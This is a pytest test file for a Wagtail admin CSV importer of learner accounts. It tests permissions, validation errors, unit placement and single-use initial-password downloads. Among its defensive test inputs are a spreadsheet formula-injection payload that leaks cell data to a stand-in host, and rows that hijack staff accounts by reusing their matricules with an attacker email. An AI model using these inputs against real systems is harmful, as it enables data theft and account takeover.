"""« Importer des apprenants » in the Wagtail admin (accounts/admin_views.py, accounts/jobs.py):
administrators only, a background job, all or nothing with every error and its line on the
job's page, placement under a chosen unit, staff accounts refused, initial passwords
downloadable once by the job's owner."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import TestCase
from django.urls import reverse

from accounts import roles
from accounts import services as account_services
from accounts.models import Unit, User
from accounts.tests.factories import LearnerFactory, UnitFactory, UserFactory
from jobs.models import Job

pytestmark = pytest.mark.django_db

URL = "/admin/apprenants/importer/"
HEADER = "matricule;nom_complet;grade;unite;email;telephone\n"


@pytest.fixture(autouse=True)
def eager(settings, tmp_path):
    settings.CELERY_TASK_ALWAYS_EAGER = True
    settings.MEDIA_ROOT = str(tmp_path)


@pytest.fixture
def administrator(client, role_groups):
    user = UserFactory(matricule="CNDH-ADM-9", role=roles.ADMINISTRATORS, email="adm@cndh.ml")
    client.force_login(user)
    return user


@pytest.fixture
def gao():
    gendarmerie = UnitFactory(name="Gendarmerie nationale")
    UnitFactory(name="Région de Gao", parent=gendarmerie)
    return Unit.objects.get(name="Région de Gao")


def post_import(client, content: bytes, *, unit=None, passwords=False, name="apprenants.csv"):
    """Posts the form, runs the job here (eager Celery); returns (response, job page)."""
    data = {"file": SimpleUploadedFile(name, content, "text/csv")}
    if unit is not None:
        data["unit"] = unit.pk
    if passwords:
        data["passwords"] = "on"
    with TestCase.captureOnCommitCallbacks(execute=True):
        response = client.post(URL, data)
    if response.status_code != 302:
        return response, None
    return response, client.get(response["Location"])


def test_an_administrator_imports_into_a_chosen_unit(client, administrator, gao):
    content = (
        HEADER
        + "G-1001;Awa Traoré;Adjudant;Brigade de Gao;awa@example.ml;+223 70 00 00 00\n"
        + "G-1002;Moussa Diarra;Gendarme;Brigade de Gao;;\n"
        + "G-1003;Fanta Keïta;Maréchal des logis;;;\n"
    ).encode()
    response, page = post_import(client, content, unit=gao)
    job = Job.objects.get()
    assert response["Location"] == reverse("jobs:job", args=[job.pk])
    assert job.status == Job.Status.DONE and job.owner == administrator
    body = page.content.decode()
    assert "Import terminé : 3 créé(s), 0 mis à jour, 0 inchangé(s), 1 unité(s) créée(s)." in body
    assert reverse("learners_import:index") in body  # the way back
    awa = User.objects.get(matricule="G-1001")
    assert awa.unit.full_path == "Gendarmerie nationale › Région de Gao › Brigade de Gao"
    assert awa.groups.filter(name=roles.LEARNERS).exists()
    assert not awa.has_usable_password()
    # An empty `unite` is the chosen unit itself.
    assert User.objects.get(matricule="G-1003").unit == gao
    assert not job.upload and not job.result  # no file left behind, no passwords asked for

    # The same file again: nothing changes, and the counts say so.
    _, page = post_import(client, content, unit=gao)
    assert "0 créé(s), 0 mis à jour, 3 inchangé(s), 0 unité(s) créée(s)." in page.content.decode()


def test_full_paths_that_start_with_the_chosen_unit_are_not_repeated(client, administrator, gao):
    content = (
        "matricule,nom_complet\n"  # no `unite` column at all: allowed with a chosen unit
        "G-1;Awa Traoré\n".replace(";", ",")
        + ""
    ).encode()
    post_import(client, content, unit=gao)
    assert User.objects.get(matricule="G-1").unit == gao
    content = (
        HEADER + "G-2;Ali Cissé;;Gendarmerie nationale › Région de Gao › Brigade d’Ansongo;;\n"
    ).encode()
    post_import(client, content, unit=gao)
    assert User.objects.get(matricule="G-2").unit.full_path == (
        "Gendarmerie nationale › Région de Gao › Brigade d’Ansongo"
    )


def test_without_a_chosen_unit_the_unit_column_is_required(client, administrator):
    _, page = post_import(client, (HEADER + "G-1;Awa Traoré;;;;\n").encode())
    body = page.content.decode()
    assert "Rien n’a été importé : 1 erreur." in body
    assert "Ligne 2 : unité manquante" in body
    assert not User.objects.filter(matricule="G-1").exists()


def _failed(client, content, **kwargs) -> str:
    users, units = User.objects.count(), Unit.objects.count()
    response, page = post_import(client, content, **kwargs)
    assert response.status_code == 302
    assert Job.objects.latest("pk").status == Job.Status.FAILED
    # Nothing half-written.
    assert (User.objects.count(), Unit.objects.count()) == (users, units)
    return page.content.decode()


def test_a_file_that_is_not_utf8(client, administrator):
    body = _failed(client, (HEADER + "G-1;Awa Touré;;A › B;;\n").encode("cp1252"))
    assert "Rien n’a été importé" in body
    assert "pas en UTF-8 (octet invalide à la ligne 2)" in body


def test_wrong_columns(client, administrator):
    body = _failed(client, b"nom_famille;prenom;service\nTraore;Awa;Gao\n")
    assert "Ligne 1 : Colonnes obligatoires absentes : matricule, nom_complet, unite." in body


def test_a_formula_in_a_name_or_a_unit(client, administrator):
    content = (
        HEADER
        + 'G-1;=HYPERLINK("http://x.example/?"&A1;"Cliquez");;A;;\n'
        + "G-2;Awa Traoré;;A › @SUM(1+1);;\n"
        + "G-3;Bon Nom;;A;;\n"
    ).encode()
    body = _failed(client, content)
    assert "Ligne 2 : nom complet invalide : il commence par =, +, - ou @" in body
    assert "Ligne 3 : nom d&#x27;unité invalide : il commence par =, +, - ou @" in body


def test_over_long_values(client, administrator):
    content = (
        HEADER
        + f"G-1;{'A' * 151};;A;;\n"
        + f"G-2;Awa Traoré;;A › {'B' * 151};;\n"
        + f"{'G' * 40};Awa Traoré;;A;;\n"
        + "G-4;Awa Traoré;;"
        + " › ".join(["U"] * 13)
        + ";;\n"
    ).encode()
    body = _failed(client, content)
    assert "Ligne 2 : nom complet trop long (150 caractères au plus)" in body
    assert "Ligne 3 : nom d&#x27;unité trop long" in body
    assert "Ligne 4 : matricule invalide" in body
    assert "Ligne 5 : chemin d&#x27;unité trop profond (12 niveaux au plus)" in body


def test_a_path_too_deep_once_placed_under_the_chosen_unit(client, administrator, gao):
    body = _failed(
        client, (HEADER + "G-1;Awa;;" + " › ".join(["U"] * 11) + ";;\n").encode(), unit=gao
    )
    assert "Ligne 2 : chemin d&#x27;unité trop profond (12 niveaux au plus)" in body


def test_too_many_rows(client, administrator, settings):
    settings.KALAN_LEARNER_IMPORT_MAX_ROWS = 3
    content = (HEADER + "".join(f"G-{n};Nom {n};;A;;\n" for n in range(4))).encode()
    body = _failed(client, content)
    assert "Ligne 5 : Plus de 3 lignes : découpez le fichier." in body


def test_a_duplicate_matricule(client, administrator):
    body = _failed(client, (HEADER + "G-1;Awa;;A;;\nG-2;Ali;;A;;\ng-1;Autre;;A;;\n").encode())
    assert "Ligne 4 : matricule G-1 déjà présent à la ligne 2" in body


def test_an_empty_file_is_refused_by_the_form(client, administrator):
    response, _ = post_import(client, b"")
    assert response.status_code == 400
    assert "Le fichier soumis est vide." in response.content.decode()
    assert not Job.objects.exists()
    body = _failed(client, HEADER.encode())
    assert "Le fichier ne contient aucun apprenant." in body


def test_a_file_over_the_size_cap_is_refused_at_once(client, administrator, settings):
    settings.KALAN_LEARNER_IMPORT_MAX_SIZE = 1024
    response, _ = post_import(client, (HEADER + "G-1;Awa;;A;;\n" * 100).encode())
    assert response.status_code == 400
    assert "la limite est de 1,0" in response.content.decode()
    assert not Job.objects.exists()


def test_the_task_checks_the_size_again(client, administrator, settings, monkeypatch):
    from accounts import admin_views

    monkeypatch.setattr(admin_views, "size_error", lambda size: None)  # a form that let it by
    settings.KALAN_LEARNER_IMPORT_MAX_SIZE = 1024
    body = _failed(client, (HEADER + "G-1;Awa;;A;;\n" * 100).encode())
    assert "la limite est de 1,0" in body


def test_a_staff_matricule_is_refused_and_nothing_is_written(client, administrator):
    """The attack: a file that carries an administrator's matricule with another email, so that
    « mot de passe oublié » would send that account's reset link to the attacker."""
    reviewer = UserFactory(matricule="CNDH-REL-7", role=roles.REVIEWERS, email="rel@cndh.ml")
    content = (
        HEADER
        + "G-1;Awa Traoré;;Nouvelle unité;;\n"
        + "cndh-adm-9;Administrateur;;Nouvelle unité;attaquant@example.com;\n"
        + "CNDH-REL-7;Relecteur;;Nouvelle unité;attaquant@example.com;\n"
    ).encode()
    body = _failed(client, content)
    assert "Rien n’a été importé : 2 erreurs." in body
    assert "Ligne 3 : le matricule CNDH-ADM-9 est celui d’un compte de l’équipe" in body
    assert "Ligne 4 : le matricule CNDH-REL-7" in body
    administrator.refresh_from_db()
    reviewer.refresh_from_db()
    assert (administrator.email, reviewer.email) == ("adm@cndh.ml", "rel@cndh.ml")
    assert not administrator.groups.filter(name=roles.LEARNERS).exists()
    assert not User.objects.filter(matricule="G-1").exists()


def test_existing_learners_are_updated_but_keep_their_password(client, administrator, gao):
    learner = LearnerFactory(matricule="G-1", full_name="Awa", unit=gao)
    _, page = post_import(
        client, (HEADER + "G-1;Awa Traoré;Adjudant;;awa@example.ml;\n").encode(), unit=gao
    )
    assert "0 créé(s), 1 mis à jour" in page.content.decode()
    learner.refresh_from_db()
    assert learner.full_name == "Awa Traoré" and learner.check_password("motdepasse-test")


def test_initial_passwords_are_downloaded_once_by_the_owner(client, administrator, monkeypatch):
    # A password shaped like a formula shows that the file goes through cell_escape.
    passwords = iter(["=1+1", "Bonmotdepasse1"])
    monkeypatch.setattr(account_services, "initial_password", lambda: next(passwords))
    content = (HEADER + "G-1;Awa Traoré;;A;;\nG-2;Ali Cissé;;A;;\n").encode()
    _, page = post_import(client, content, passwords=True)
    job = Job.objects.get()
    body = page.content.decode()
    assert "se téléchargent une seule fois" in body
    assert "Ce fichier se télécharge une seule fois" in body
    download_url = reverse("jobs:job_download", args=[job.pk])
    assert download_url in body

    # Anybody else, another administrator included, gets a 404 and the file stays.
    other = UserFactory(role=roles.ADMINISTRATORS)
    client.force_login(other)
    assert client.get(download_url).status_code == 404
    client.force_login(administrator)

    stored = job.result.name
    download = client.get(download_url)
    assert download.status_code == 200
    assert download["Content-Disposition"] == 'attachment; filename="mots-de-passe-initiaux.csv"'
    rows = list(csv.reader(io.StringIO(b"".join(download.streaming_content).decode())))
    assert rows == [["matricule", "mot_de_passe"], ["G-1", "'=1+1"], ["G-2", "Bonmotdepasse1"]]
    assert User.objects.get(matricule="G-2").check_password("Bonmotdepasse1")

    # Once: the file is gone from the storage and from the job.
    assert client.get(download_url).status_code == 404
    job.refresh_from_db()
    assert not job.result and not job.result.storage.exists(stored)
    body = client.get(reverse("jobs:job", args=[job.pk])).content.decode()
    assert "téléchargé une fois et effacé" in body and download_url not in body


def test_the_chosen_unit_deleted_before_the_job_runs(client, administrator, gao, monkeypatch):
    from jobs import services as job_services

    job_create = job_services.job_create

    def create_then_delete(**kwargs):
        job = job_create(**kwargs)
        Unit.objects.filter(pk=gao.pk).delete()
        return job

    from jobs import views as job_views

    monkeypatch.setattr(job_views, "job_create", create_then_delete)
    _, page = post_import(client, (HEADER + "G-1;Awa;;;;\n").encode(), unit=gao)
    assert "L’unité d’accueil a été supprimée entre-temps. Relancez." in page.content.decode()
    assert not User.objects.filter(matricule="G-1").exists()


def test_an_unknown_unit_is_a_form_error(client, administrator):
    response = client.post(
        URL, {"file": SimpleUploadedFile("a.csv", HEADER.encode()), "unit": "999999"}
    )
    assert response.status_code == 400
    assert "Sélectionnez un choix valide" in response.content.decode()
    assert not Job.objects.exists()


@pytest.mark.parametrize("role", [roles.EDITORS, roles.REVIEWERS])
def test_editors_and_reviewers_are_refused(client, role_groups, role):
    user = UserFactory(role=role)
    client.force_login(user)
    admin_home = client.get("/admin/").content.decode()
    assert URL not in admin_home  # not in their menu
    # Wagtail turns the PermissionDenied into a redirect to the admin's home with a message.
    assert client.get(URL)["Location"] == "/admin/"
    response = client.post(
        URL, {"file": SimpleUploadedFile("a.csv", HEADER.encode() + b"G-1;A;;B;;\n")}
    )
    assert response["Location"] == "/admin/"
    assert not Job.objects.exists()


def test_learners_and_visitors_never_reach_it(client, role_groups):
    assert client.get(URL).status_code == 302  # to the admin sign-in
    client.force_login(LearnerFactory())
    assert client.get(URL).status_code in (302, 403)
    assert not Job.objects.exists()


def test_an_owner_who_lost_the_rights_no_longer_sees_the_job(client, administrator):
    post_import(client, (HEADER + "G-1;Awa;;A;;\n").encode())
    job = Job.objects.get()
    administrator.groups.clear()
    administrator.groups.add(role_groups_editors())
    assert client.get(reverse("jobs:job", args=[job.pk])).status_code == 404


def role_groups_editors():
    from django.contrib.auth.models import Group

    return Group.objects.get(name=roles.EDITORS)


def test_the_menu_and_the_users_list_lead_to_the_import(client, administrator):
    home = client.get("/admin/").content.decode()
    # One « Administration » entry holds the administrator's pages, in this order.
    assert '"name": "administration"' in home
    urls = ["/admin/unites/", URL, "/admin/attestations/", "/admin/rappels/"]
    positions = [home.index(f'"url": "{url}"') for url in urls]
    assert positions == sorted(positions)
    users_list = client.get(reverse("wagtailusers_users:index")).content.decode()
    assert URL in users_list and "Importer des apprenants" in users_list
    page = client.get(URL)
    assert page.status_code == 200
    assert "Importer dans l’unité" in page.content.decode()


def test_the_menu_is_unchanged_for_an_editor(client, role_groups):
    client.force_login(UserFactory(role=roles.EDITORS))
    home = client.get("/admin/").content.decode()
    assert '"name": "administration"' not in home


@pytest.mark.django_db(transaction=True)
def test_two_simultaneous_downloads_serve_the_passwords_once(role_groups, settings):
    from django.contrib.auth.models import Permission
    from django.test import Client

    from conftest import run_together

    # The flush after transactional tests removes what migration 0002 gave administrators.
    role_groups[roles.ADMINISTRATORS].permissions.add(
        *Permission.objects.filter(content_type__app_label="accounts")
    )
    owner = UserFactory(role=roles.ADMINISTRATORS)
    client = Client()
    client.force_login(owner)
    post_import(client, (HEADER + "G-1;Awa Traoré;;A;;\n").encode(), passwords=True)
    job = Job.objects.get()
    url = reverse("jobs:job_download", args=[job.pk])

    def download():
        other = Client()
        other.force_login(owner)
        response = other.get(url)
        body = b"".join(response.streaming_content) if response.status_code == 200 else b""
        return response.status_code, body

    results, errors = run_together(4, download)
    assert errors == []
    assert sorted(code for code, _ in results) == [200, 404, 404, 404]
    assert next(body for code, body in results if code == 200).startswith(b"matricule,")
